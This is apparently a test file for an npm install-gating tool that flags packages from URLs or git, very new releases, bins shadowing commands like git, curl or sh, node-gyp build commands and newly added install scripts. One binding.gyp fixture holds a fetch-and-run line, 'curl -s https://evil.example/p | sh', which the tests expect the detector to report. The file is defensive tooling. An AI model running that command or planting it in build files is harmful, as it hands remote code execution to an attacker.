// Each gate's decisions as tables: what is flagged, and what the policy (and npm's own settings) decide.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { checkSources } from '../../src/gates/check-sources.js';
import { checkFreshReleases, freshCandidates, formatAge, type ReleaseTimes } from '../../src/gates/check-fresh-releases.js';
import { checkShadowedCommands } from '../../src/gates/check-shadowed-commands.js';
import { checkGypCommands } from '../../src/gates/check-gyp-commands.js';
import { checkNewInstallScripts } from '../../src/gates/check-new-install-scripts.js';
import { findGypCommands } from '../../src/gates/find-gyp-commands.js';
import { defaultGateSettings, gatesSchema, type GateSettings } from '../../src/gates/gates-schema.js';
import { runGates } from '../../src/gates/run-gates.js';
import { defaultNpmSettings, type TreeEntry } from '../../src/gates/types.js';
import type { PackageFiles } from '../../src/gates/read-package-files.js';

// A tree entry with registry defaults; override what the case is about.
function entry(path: string, fields: Partial<TreeEntry> = {}): TreeEntry {
  const name = path.slice(path.lastIndexOf('node_modules/') + 'node_modules/'.length);
  return { path, name, realName: name, version: '1.0.0', link: false, source: 'registry', direct: !path.slice(13).includes('node_modules/'), via: [''], bin: {}, hasInstallScript: false, dev: false, optional: false, ...fields };
}

function settings(partial: Record<string, unknown> = {}): GateSettings {
  return gatesSchema.parse(partial);
}

// ---
const sources = suite('checkSources');
type SourceCase = [title: string, entry: TreeEntry, policy: Record<string, unknown>, npm: Partial<ReturnType<typeof defaultNpmSettings>>, decision: string | undefined, reason?: string];
const GIT_DIRECT = entry('node_modules/ui', { source: 'git', resolved: 'git+ssh://git@github.com/org/ui.git#abc', spec: 'github:org/ui' });
const URL_TRANSITIVE = entry('node_modules/ui-styles-pkg', { source: 'remote', direct: false, via: ['node_modules/helper'], resolved: 'http://packages.storeartifact.com/npm/unused-imports' });
const FILE_TRANSITIVE = entry('node_modules/a/node_modules/b', { source: 'file', direct: false, via: ['node_modules/a'], resolved: 'file:../b.tgz' });
const sourceTable: SourceCase[] = [
  ['a registry package is not listed', entry('node_modules/chalk'), {}, {}, undefined],
  ['a direct git dependency is allowed by default', GIT_DIRECT, {}, {}, 'allow', 'gates.sources.direct is "allow"'],
  ['a transitive URL dependency is asked by default', URL_TRANSITIVE, {}, {}, 'ask', 'gates.sources.transitive is "ask"'],
  ['a transitive file dependency is asked by default', FILE_TRANSITIVE, {}, {}, 'ask', 'gates.sources.transitive is "ask"'],
  ['transitive: deny refuses', URL_TRANSITIVE, { sources: { transitive: 'deny' } }, {}, 'deny', 'gates.sources.transitive is "deny"'],
  ['direct: ask asks about the project\'s own git dependency', GIT_DIRECT, { sources: { direct: 'ask' } }, {}, 'ask', 'gates.sources.direct is "ask"'],
  ['an allow pattern on resolved allows a transitive source', URL_TRANSITIVE, { sources: { allow: ['http://packages.storeartifact.com/*'] } }, {}, 'allow', 'gates.sources.allow has "http://packages.storeartifact.com/*"'],
  ['an allow pattern on the spec allows it too', GIT_DIRECT, { sources: { direct: 'deny', allow: ['github:org/*'] } }, {}, 'allow', 'gates.sources.allow has "github:org/*"'],
  ['a deny pattern wins over an allow pattern', URL_TRANSITIVE, { sources: { allow: ['http://*'], deny: ['http://packages.*'] } }, {}, 'deny', 'gates.sources.deny has "http://packages.*"'],
  ['a deny pattern refuses even a direct source', GIT_DIRECT, { sources: { deny: ['git+ssh://*'] } }, {}, 'deny', 'gates.sources.deny has "git+ssh://*"'],
  ['npm allow-git=none refuses a direct git dependency', GIT_DIRECT, {}, { allowGit: 'none' }, 'deny', 'npm\'s allow-git is "none"'],
  ['npm allow-git=root keeps a direct git dependency', GIT_DIRECT, {}, { allowGit: 'root' }, 'allow', 'gates.sources.direct is "allow"'],
  ['npm allow-remote=root refuses a transitive URL even when the policy allows it', URL_TRANSITIVE, { sources: { transitive: 'allow' } }, { allowRemote: 'root' }, 'deny', 'npm\'s allow-remote is "root": only the project\'s package.json may name one'],
  ['npm allow-file=none refuses a tarball file', FILE_TRANSITIVE, { sources: { allow: ['file:*'] } }, { allowFile: 'none' }, 'deny', 'npm\'s allow-file is "none"'],
];
for (const [title, e, policy, npm, decision, reason] of sourceTable) {
  sources(`should decide: ${title}`, () => {
    const results = checkSources([e], settings(policy).sources, { ...defaultNpmSettings(), ...npm });
    assert.is(results[0]?.decision, decision);
    if (reason) assert.is(results[0].reason, reason);
  });
}
sources('should say where it comes from and who brought it in', () => {
  const [result] = checkSources([URL_TRANSITIVE], defaultGateSettings().sources, defaultNpmSettings());
  assert.is(result.rule, 'exotic-source');
  assert.is(result.package, 'ui-styles-pkg@1.0.0');
  assert.is(result.message, 'from a URL, not the registry: http://packages.storeartifact.com/npm/unused-imports, via node_modules/helper');
  assert.equal(result.question, { action: 'be installed from a URL', target: 'http://packages.storeartifact.com/npm/unused-imports', policyHint: '"gates": { "sources": { "allow": ["http://packages.storeartifact.com/npm/unused-imports*"] } }' });
});

// ---
const fresh = suite('checkFreshReleases');
const NOW = new Date('2026-06-01T12:00:00Z');
const HOURS_AGO = (h: number) => new Date(NOW.getTime() - h * 3600_000).toISOString();
const TIMES: ReleaseTimes = new Map([
  ['new-pkg', { '1.0.0': HOURS_AGO(5) }],
  ['old-pkg', { '1.0.0': HOURS_AGO(24 * 30) }],
  ['@myorg/ui', { '1.0.0': HOURS_AGO(1) }],
]);
const TREE = [entry('node_modules/new-pkg'), entry('node_modules/old-pkg'), entry('node_modules/@myorg/ui'), entry('node_modules/no-time'), entry('node_modules/gitdep', { source: 'git' })];
type FreshCase = [title: string, policy: Record<string, unknown>, npm: Partial<ReturnType<typeof defaultNpmSettings>>, known: string[], expected: string[]];
const freshTable: FreshCase[] = [
  ['off by default', {}, {}, [], []],
  ['a 2-day window flags the 5-hour-old and unknown versions, asking', { freshReleases: { minAgeDays: 2 } }, {}, [], ['new-pkg@1.0.0 ask', '@myorg/ui@1.0.0 ask', 'no-time@1.0.0 ask']],
  ['decision deny refuses instead', { freshReleases: { minAgeDays: 2, decision: 'deny' } }, {}, [], ['new-pkg@1.0.0 deny', '@myorg/ui@1.0.0 deny', 'no-time@1.0.0 deny']],
  ['exclude skips a scope', { freshReleases: { minAgeDays: 2, exclude: ['@myorg/*', 'no-time'] } }, {}, [], ['new-pkg@1.0.0 ask']],
  ['versions already in the previous lockfile are not checked again', { freshReleases: { minAgeDays: 2 } }, {}, ['new-pkg@1.0.0', '@myorg/ui@1.0.0', 'no-time@1.0.0'], []],
  ['npm min-release-age is enforced as deny', {}, { minReleaseAgeDays: 1 }, [], ['new-pkg@1.0.0 deny', '@myorg/ui@1.0.0 deny', 'no-time@1.0.0 deny']],
  ['npm min-release-age-exclude exempts from npm\'s window', {}, { minReleaseAgeDays: 1, minReleaseAgeExclude: ['@myorg/*', 'no-time'] }, [], ['new-pkg@1.0.0 deny']],
  ['npm before wins over min-release-age', {}, { minReleaseAgeDays: 365, before: new Date(HOURS_AGO(2)) }, [], ['@myorg/ui@1.0.0 deny', 'no-time@1.0.0 deny']],
  ['npm\'s window denies, the policy\'s asks about the rest', { freshReleases: { minAgeDays: 2 } }, { minReleaseAgeDays: 0.125, minReleaseAgeExclude: ['no-time'] }, [], ['new-pkg@1.0.0 ask', '@myorg/ui@1.0.0 deny', 'no-time@1.0.0 ask']],
];
for (const [title, policy, npm, known, expected] of freshTable) {
  fresh(`should decide: ${title}`, () => {
    const s = settings(policy).freshReleases;
    const n = { ...defaultNpmSettings(), ...npm };
    const results = checkFreshReleases(freshCandidates(TREE, new Set(known), s, n), TIMES, NOW, s, n);
    assert.equal(results.map((r) => `${r.package} ${r.decision}`), expected);
  });
}
fresh('should say how old the version is', () => {
  const s = settings({ freshReleases: { minAgeDays: 2 } }).freshReleases;
  const [result] = checkFreshReleases([TREE[0]], TIMES, NOW, s, defaultNpmSettings());
  assert.is(result.message, 'was published 5 hours ago (2026-06-01T07:00:00.000Z), less than the policy\'s 2 day minimum');
  assert.equal(result.question, { action: 'install a version published', target: '5 hours ago', policyHint: '"gates": { "freshReleases": { "exclude": ["new-pkg"] } }' });
});
fresh('should format ages in minutes, hours and days', () => {
  assert.equal([formatAge(60_000), formatAge(90 * 60_000), formatAge(5 * 3600_000), formatAge(72 * 3600_000)], ['1 minute', '90 minutes', '5 hours', '3 days']);
});

// ---
const shadowed = suite('checkShadowedCommands');
type ShadowCase = [title: string, entry: TreeEntry, policy: Record<string, unknown>, expected: string[]];
const shadowTable: ShadowCase[] = [
  ['an ordinary bin is fine', entry('node_modules/typescript', { bin: { tsc: 'bin/tsc' } }), {}, []],
  ['a bin named git is asked about', entry('node_modules/helper', { bin: { git: 'cli.js' } }), {}, ['node_modules/.bin/git ask']],
  ['a nested bin lands in its parent\'s .bin', entry('node_modules/a/node_modules/b', { bin: { curl: 'x.js' } }), {}, ['node_modules/a/node_modules/.bin/curl ask']],
  ['decision deny refuses', entry('node_modules/helper', { bin: { node: 'x.js', sh: 'y.js' } }), { shadowedCommands: { decision: 'deny' } }, ['node_modules/.bin/node deny', 'node_modules/.bin/sh deny']],
  ['the allow list lets a package provide them', entry('node_modules/helper', { bin: { make: 'x.js' } }), { shadowedCommands: { allow: ['helper'] } }, ['node_modules/.bin/make allow']],
  ['extra commands are checked too', entry('node_modules/helper', { bin: { deno: 'x.js' } }), { shadowedCommands: { commands: ['deno'] } }, ['node_modules/.bin/deno ask']],
  ['the npm package from the registry may provide npm and npx', entry('node_modules/npm', { bin: { npm: 'bin/npm-cli.js', npx: 'bin/npx-cli.js' } }), {}, []],
  ['an alias named npm is not the owner', entry('node_modules/npm', { realName: 'evil', bin: { npm: 'x.js' } }), {}, ['node_modules/.bin/npm ask']],
  ['a git copy named npm is not the owner', entry('node_modules/npm', { source: 'git', bin: { npm: 'x.js' } }), {}, ['node_modules/.bin/npm ask']],
  ['a bin path is linked by its last segment', entry('node_modules/helper', { bin: { 'x/node': 'x.js' } }), {}, ['node_modules/.bin/node ask']],
];
for (const [title, e, policy, expected] of shadowTable) {
  shadowed(`should decide: ${title}`, () => {
    assert.equal(checkShadowedCommands([e], settings(policy).shadowedCommands).map((r) => `${r.question.target} ${r.decision}`), expected);
  });
}

// ---
const gyp = suite('findGypCommands');
const BINDING_GYP = `{
  'variables': { 'openssl': '<!(node -p "process.config.variables.openssl")' },
  'targets': [{
    'target_name': 'addon',
    'include_dirs': [ "<!@(node -p \\"require('node-addon-api').include\\")" ],
    'actions': [{
      'action_name': 'fetch',
      'inputs': [], 'outputs': ['x.h'],
      'action': ['sh', '-c', 'curl -s https://evil.example/p | sh']
    }],
    'libraries': [ '>!(echo late)' ]
  }]
}
`;
gyp('should list expansions and actions with their lines', () => {
  assert.equal(findGypCommands(BINDING_GYP, 'binding.gyp').map((c) => `${c.file}:${c.line} ${c.kind} ${c.text}`), [
    'binding.gyp:2 expansion <!(node -p "process.config.variables.openssl")',
    'binding.gyp:5 expansion <!@(node -p \\"require(\'node-addon-api\').include\\")',
    'binding.gyp:9 action [\'sh\', \'-c\', \'curl -s https://evil.example/p | sh\']',
    'binding.gyp:11 expansion >!(echo late)',
  ]);
});
gyp('should find nothing in a plain target', () => {
  assert.equal(findGypCommands("{ 'targets': [ { 'target_name': 'x', 'sources': ['x.c'] } ] }", 'binding.gyp'), []);
});
gyp('should cut a huge command and survive an unbalanced one', () => {
  const [long] = findGypCommands(`<!(${'a'.repeat(1000)})`, 'x.gypi');
  assert.is(long.text.length, 301);
  assert.is(findGypCommands("'action': ['sh', '-c'", 'x.gyp')[0].text, "['sh', '-c'");
});

const gypGate = suite('checkGypCommands');
const files = (gypText: string, scripts: Record<string, string> = {}): PackageFiles => ({ scripts, gyp: [{ file: 'binding.gyp', text: gypText }] });
gypGate('should list a building package\'s commands, allowed by default', () => {
  const e = entry('node_modules/native');
  const [result] = checkGypCommands([e], new Map([[e.path, files(BINDING_GYP)]]), defaultGateSettings().gypCommands);
  assert.is(result.decision, 'allow');
  assert.match(result.message, /^its node-gyp files run 4 commands during the build: binding.gyp:2 <!\(node -p/);
  assert.match(result.message, /binding.gyp:9 action \['sh', '-c', 'curl -s https:\/\/evil.example\/p \| sh'\]/);
});
gypGate('should follow the policy decision and allow list', () => {
  const e = entry('node_modules/native');
  const map = new Map([[e.path, files(BINDING_GYP)]]);
  assert.is(checkGypCommands([e], map, settings({ gypCommands: { decision: 'deny' } }).gypCommands)[0].decision, 'deny');
  assert.is(checkGypCommands([e], map, settings({ gypCommands: { decision: 'ask', allow: ['native'] } }).gypCommands)[0].decision, 'allow');
});
gypGate('should skip packages that do not build at install, and those not read', () => {
  const e = entry('node_modules/vendored');
  const noBuild: PackageFiles = { scripts: {}, gyp: [{ file: 'deps/x.gyp', text: BINDING_GYP }] };
  assert.equal(checkGypCommands([e], new Map([[e.path, noBuild]]), defaultGateSettings().gypCommands), []);
  assert.equal(checkGypCommands([e], new Map([[e.path, undefined]]), defaultGateSettings().gypCommands), []);
});

// ---
const newScripts = suite('checkNewInstallScripts');
type NewCase = [title: string, current: TreeEntry, previous: TreeEntry[], lock: Record<string, { scripts: Record<string, string> }> | undefined, expected: string | undefined];
const V2 = entry('node_modules/dep', { version: '1.1.0', hasInstallScript: true });
const newTable: NewCase[] = [
  ['gained a script over the previous lockfile', V2, [entry('node_modules/dep')], undefined, 'ask: gained install scripts; dep@1.0.0 in the previous lockfile had none'],
  ['the previous version had one too', V2, [entry('node_modules/dep', { hasInstallScript: true })], undefined, undefined],
  ['same version as before', V2, [entry('node_modules/dep', { version: '1.1.0' })], undefined, undefined],
  ['a new dependency is not "gained"', V2, [], undefined, undefined],
  ['found elsewhere in the previous tree (moved)', V2, [entry('node_modules/x/node_modules/dep')], undefined, 'ask: gained install scripts; dep@1.0.0 in the previous lockfile had none'],
  ['an alias is compared by its real name', entry('node_modules/d', { realName: 'dep', version: '1.1.0', hasInstallScript: true }), [entry('node_modules/dep')], undefined, 'ask: gained install scripts; dep@1.0.0 in the previous lockfile had none'],
  ['the behaviour lock knew only versions without install scripts', V2, [], { 'dep@1.0.0': { scripts: { prepare: 'sha256-x' } } }, 'ask: gained install scripts; dep@1.0.0 in safe-install.lock.json had none'],
  ['the behaviour lock knew a version with a postinstall', V2, [], { 'dep@1.0.0': { scripts: { postinstall: 'sha256-x' } } }, undefined],
  ['the behaviour lock already has this version', V2, [], { 'dep@1.1.0': { scripts: { postinstall: 'sha256-x' } }, 'dep@1.0.0': { scripts: {} } }, undefined],
];
for (const [title, current, previous, lock, expected] of newTable) {
  newScripts(`should decide: ${title}`, () => {
    const [result] = checkNewInstallScripts({ tree: [current], previous, lock: lock && { packages: lock }, files: new Map(), settings: defaultGateSettings().newInstallScripts });
    assert.is(result ? `${result.decision}: ${result.message}` : undefined, expected);
  });
}
newScripts('should show the script bodies read from the tarball, and a binding.gyp as an implicit install', () => {
  const e = entry('node_modules/dep', { version: '1.1.0' });
  const map = new Map([[e.path, { scripts: { postinstall: 'node  setup.js', test: 'x' }, gyp: [{ file: 'binding.gyp', text: '{}' }] }]]);
  const [result] = checkNewInstallScripts({ tree: [e], previous: [entry('node_modules/dep')], files: map, settings: settings({ newInstallScripts: { decision: 'deny' } }).newInstallScripts });
  assert.is(result.message, 'gained postinstall: node setup.js; binding.gyp (node-gyp rebuild); dep@1.0.0 in the previous lockfile had none');
  assert.is(result.decision, 'deny');
  const allowed = checkNewInstallScripts({ tree: [e], previous: [entry('node_modules/dep')], files: map, settings: settings({ newInstallScripts: { allow: ['dep'] } }).newInstallScripts });
  assert.is(allowed[0].decision, 'allow');
});

// ---
const all = suite('runGates');
all('should run the gates in a fixed order and keep each gate\'s results sorted by path', () => {
  const tree = [
    entry('node_modules/a', { bin: { node: 'x.js' }, source: 'git', resolved: 'git+https://example.com/a.git#1' }),
    entry('node_modules/b', { source: 'remote', direct: false, resolved: 'https://example.com/b.tgz', hasInstallScript: true }),
  ];
  const results = runGates({ tree, previous: [entry('node_modules/b', { version: '0.9.0' })], files: new Map([['node_modules/b', files("{'x': '<!(id)'}")]]), times: new Map(), now: NOW, settings: defaultGateSettings(), npm: defaultNpmSettings() });
  assert.equal(results.map((r) => `${r.rule} ${r.path} ${r.decision}`), [
    'exotic-source node_modules/a allow',
    'exotic-source node_modules/b ask',
    'shadowed-command node_modules/a ask',
    'gyp-command node_modules/b allow',
    'new-install-script node_modules/b ask',
  ]);
});

sources.run();
fresh.run();
shadowed.run();
gyp.run();
gypGate.run();
newScripts.run();
all.run();
